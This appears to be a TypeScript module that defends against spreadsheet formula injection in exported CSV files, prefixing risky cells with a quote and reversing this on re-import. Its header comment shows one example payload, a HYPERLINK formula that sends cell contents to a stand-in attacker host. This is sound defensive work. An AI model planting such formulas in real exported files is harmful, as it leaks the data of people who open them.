// Spreadsheet formula ("CSV") injection. The results and failures files are meant to be opened
// in Excel, LibreOffice or Google Sheets, and their cells come from the input file and from
// LiveDesk's answers: a cell such as `=HYPERLINK("https://evil.example/?"&A1)` would run when the
// person opens the file. Per OWASP's CSV Injection page (owasp.org/www-community/attacks/
// CSV_Injection: `=`, `+`, `-`, `@`, tab, CR and, in its current text, LF) and ASVS 5.0
// requirement 1.2.10 (which adds NUL), a cell starting with one of those characters gets a
// leading single quote, so every spreadsheet reads it as text. Leading spaces are looked past,
// since some spreadsheets trim them before deciding.
//
// OWASP's caveat is the field separator: quoting by the CSV writer keeps a `,` inside a cell, but
// a spreadsheet whose list separator is `;` (Excel in much of Europe opens a .csv that way) or
// that splits at tabs cuts the line at those characters whatever the quotes say, and the text
// after one becomes a cell of its own: `x;=HYPERLINK(…)`. So the same rule applies after every
// `;` and tab inside a cell: the quote goes right after the separator (`x;'=HYPERLINK(…)`).
//
// Exceptions, so that the files stay usable: a plain number (`-12.5`, `+3`) and a phone number
// (`+14155550100`, `+44 20 7946 0958`, `+1 (415) 555-0100`) are left as they are. Neither can do
// anything as a formula: with no letters, quotes, `:`, `!`, `|` or `&` there is no function, cell
// reference, string or DDE link to build, only arithmetic on the digits. A lone `+` or `-` (a
// common "no value" placeholder) is left as well.

const QUOTE = "'";
const QUOTE_CODE = 0x27;

// Indexed by char code; everything above '@' (0x40) is safe.
const TRIGGER = new Uint8Array(0x41);
for (const ch of ['=', '+', '-', '@', '\t', '\r', '\n', '\0']) TRIGGER[ch.charCodeAt(0)] = 1;
const SPACE = 0x20;
const PLUS = 0x2b;
const MINUS = 0x2d;
const SEMICOLON = 0x3b;
const TAB = 0x09;

const PLAIN_NUMBER = /^[+-](?:\d+(?:\.\d+)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const PHONE = /^\+\d(?:[\d ().\/-]*\d)?$/;

function nextSeparator(value: string, from: number): number {
  for (let i = from; i < value.length; i++) {
    const c = value.charCodeAt(i);
    if (c === SEMICOLON || c === TAB) return i;
  }
  return -1;
}

/**
 * Whether the text from `from` to `to` would be run as a formula if a spreadsheet saw it as a
 * cell: its first character past any spaces is a trigger, and it is not a plain number, a phone
 * number or a lone sign.
 */
function runsAsFormula(value: string, from: number, to: number): boolean {
  let i = from;
  let c = value.charCodeAt(i);
  while (i < to && c === SPACE) c = value.charCodeAt(++i);
  if (i >= to || !(c <= 0x40 && TRIGGER[c] === 1)) return false;
  if (c !== PLUS && c !== MINUS) return true;
  const rest = from === 0 && to === value.length && i === 0 ? value : value.slice(i, to);
  return !(rest.length === 1 || PLAIN_NUMBER.test(rest) || (c === PLUS && PHONE.test(rest)));
}

/**
 * The cell as it is safe to write: unchanged, or with a `'` in front (and after any `;` or tab
 * inside it) where a spreadsheet would otherwise run a formula. A cell with no trigger at its
 * start and no `;` or tab comes back as the very same string, with no allocation.
 *
 * Idempotent: a `'` is not a trigger, so a neutralized cell is never prefixed again. The price is
 * that a cell that already had `'` before a trigger (`'=x`) is written as it is, so `restoreCell`
 * cannot tell it from a neutralized `=x`.
 */
export function neutralizeCell(value: string): string {
  const atStart = runsAsFormula(value, 0, value.length);
  let sep = nextSeparator(value, 0);
  if (sep < 0) return atStart ? QUOTE + value : value;
  let out = atStart ? QUOTE : '';
  let from = 0;
  while (sep >= 0) {
    const next = nextSeparator(value, sep + 1);
    if (runsAsFormula(value, sep + 1, next < 0 ? value.length : next)) {
      out += value.slice(from, sep + 1) + QUOTE;
      from = sep + 1;
    }
    sep = next;
  }
  return from === 0 && !atStart ? value : out + value.slice(from);
}

/**
 * The inverse of `neutralizeCell`, for a file this tool wrote that is read back in (a failures
 * file fixed and imported again): `'=x` → `=x`, `'-foo@example.com` → `-foo@example.com`,
 * `a;'=b` → `a;=b`. A `'` is removed only where `neutralizeCell` would have put it (at the start,
 * or after a `;` or tab, and followed by a formula), so `restoreCell(neutralizeCell(x)) === x`
 * for every `x` that does not itself look neutralized (`restoreCell(x) === x`).
 */
export function restoreCell(value: string): string {
  const atStart = value.charCodeAt(0) === QUOTE_CODE && runsAsFormula(value, 1, value.length);
  let sep = nextSeparator(value, 0);
  if (sep < 0) return atStart ? value.slice(1) : value;
  let out = '';
  let from = atStart ? 1 : 0;
  while (sep >= 0) {
    const next = nextSeparator(value, sep + 1);
    if (value.charCodeAt(sep + 1) === QUOTE_CODE && runsAsFormula(value, sep + 2, next < 0 ? value.length : next)) {
      out += value.slice(from, sep + 1);
      from = sep + 2;
    }
    sep = next;
  }
  return from === 0 ? value : out + value.slice(from);
}
